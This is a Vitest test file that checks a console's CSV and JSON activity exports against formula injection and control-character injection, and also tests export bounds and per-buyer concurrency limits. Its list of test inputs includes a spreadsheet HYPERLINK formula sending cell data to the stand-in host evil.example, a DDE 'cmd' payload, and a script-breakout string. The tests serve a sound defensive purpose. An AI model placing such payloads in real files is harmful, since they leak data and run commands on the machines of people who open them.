import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest'
import type { Readable } from 'node:stream'
import { exportCsv, exportJson } from '../../../server/console/activity/export.ts'
import { Browser, fieldsOf } from './browser.ts'
import { addManyRecords, addRecord } from './activity-records.ts'
import { password, startConsole, type TestConsole } from './setup.ts'

const mara = 'mara@shop.example'
let remit: TestConsole
let buyer: { id: string }
let browser: Browser

beforeAll(async () => {
  remit = await startConsole()
  buyer = await remit.addBuyer(mara)
  browser = new Browser(remit.origin)
  const page = await browser.get('/sign-in')
  await browser.post('/sign-in', { ...fieldsOf(page, '/sign-in'), email: mara, password })
})
afterAll(() => remit.close())
beforeEach(async () => {
  await remit.database.db.deleteFrom('records').execute()
})

/** a reader as strict as RFC 4180: a quote ends a cell, two are one, a line ends with CRLF */
function parseCsv(text: string): string[][] {
  const rows = text
    .replace(/^\uFEFF/u, '')
    .split('\r\n')
    .slice(0, -1)
  return rows.map((row) => {
    if (!/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$/u.test(row)) throw new Error(`no row: ${row}`)
    return [...row.matchAll(/"((?:[^"]|"")*)"/gu)].map(([, cell = '']) =>
      cell.replaceAll('""', '"'),
    )
  })
}

const formulas = [
  '=HYPERLINK("http://evil.example/"&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r\n=1+1',
  ' =1+1',
  '\u200b=1+1',
  '＝1+1',
  '"=1+1',
  'x","=1+1',
]

it.each(formulas)('%j is text in every cell, whoever opens the table', async (formula) => {
  await addRecord(remit.database, {
    id: 'd_1',
    grantId: 'g_1',
    buyerId: buyer.id,
    clientId: formula,
    operation: formula,
    request: { [formula]: formula },
    facts: { operation: formula, message: { subject: formula, from: formula } },
    decision: 'deny',
    explanation: formula,
  })
  const { text, headers } = await browser.get('/activity/export.csv')
  const rows = parseCsv(text)
  expect(rows).toHaveLength(2)
  expect(rows[1]).toHaveLength(12)
  for (const cell of rows.flat()) expect(cell.trimStart()).not.toMatch(/^[=+\-@\t\r|%]/u)
  expect(headers.get('content-disposition')).toBe('attachment; filename="remit-activity.csv"')
  expect(headers.get('x-content-type-options')).toBe('nosniff')
})

it('data keeps every value as it was, without one character that speaks to a terminal or a browser', async () => {
  const hostile = '</script><b>\u202eevil\u0007\u{E0041}\u2028 \u001b[2J=1+1'
  await addRecord(remit.database, {
    id: 'd_1',
    grantId: 'g_1',
    buyerId: buyer.id,
    clientId: hostile,
    facts: { operation: hostile },
  })
  const { text } = await browser.get('/activity/export.json')
  expect(text).not.toMatch(/[<>\p{Cf}\u2028\u2029]|(?!\n)\p{Cc}/u)
  expect(JSON.parse(text)).toMatchObject({
    complete: true,
    calls: [{ id: 'd_1', clientId: hostile, facts: { operation: hostile } }],
  })
})

it('an export of nothing is whole, and one of everything says so', async () => {
  expect(JSON.parse((await browser.get('/activity/export.json')).text)).toEqual({
    calls: [],
    complete: true,
  })
  expect(parseCsv((await browser.get('/activity/export.csv')).text)).toHaveLength(1)
  await addManyRecords(remit.database, { grantId: 'g_1', buyerId: buyer.id, count: 1_700 })
  const all = JSON.parse((await browser.get('/activity/export.json')).text) as {
    calls: { id: string }[]
  }
  expect(new Set(all.calls.map(({ id }) => id)).size).toBe(1_700)
  const refused = parseCsv((await browser.get('/activity/export.csv?result=refused')).text)
  expect(refused).toHaveLength(1 + 17)
})

it('is bounded, and says that it is not complete', async () => {
  await addManyRecords(remit.database, { grantId: 'g_1', buyerId: buyer.id, count: 1_200 })
  const options = { db: remit.database.db, buyerId: buyer.id, filter: {}, now: 0, maxCalls: 700 }
  const data = JSON.parse(await read(exportJson(options))) as {
    calls: unknown[]
    complete: boolean
  }
  expect([data.calls.length, data.complete]).toEqual([700, false])
  const rows = parseCsv(await read(exportCsv(options)))
  expect(rows).toHaveLength(702)
  expect(rows.at(-1)).toEqual(['not complete: choose fewer days'])
})

it('one at a time for one buyer, and the place is free again when a reader hangs up', async () => {
  await addManyRecords(remit.database, { grantId: 'g_1', buyerId: buyer.id, count: 20_000 })
  const cookie = `remit_session=${browser.cookie('remit_session') ?? ''}`
  const ask = async (signal?: AbortSignal): Promise<Response> =>
    fetch(`${remit.origin}/activity/export.json`, {
      headers: { cookie },
      ...(signal && { signal }),
    })
  const hangUp = new AbortController()
  const first = await ask(hangUp.signal)
  expect(first.status).toBe(200)
  expect((await ask()).status).toBe(429)
  hangUp.abort()
  await expect
    .poll(
      async () => {
        const again = await ask()
        await again.body?.cancel()
        return again.status
      },
      { timeout: 10_000, interval: 300 },
    )
    .toBe(200)
}, 30_000)

async function read(stream: Readable): Promise<string> {
  return (await stream.toArray()).join('')
}
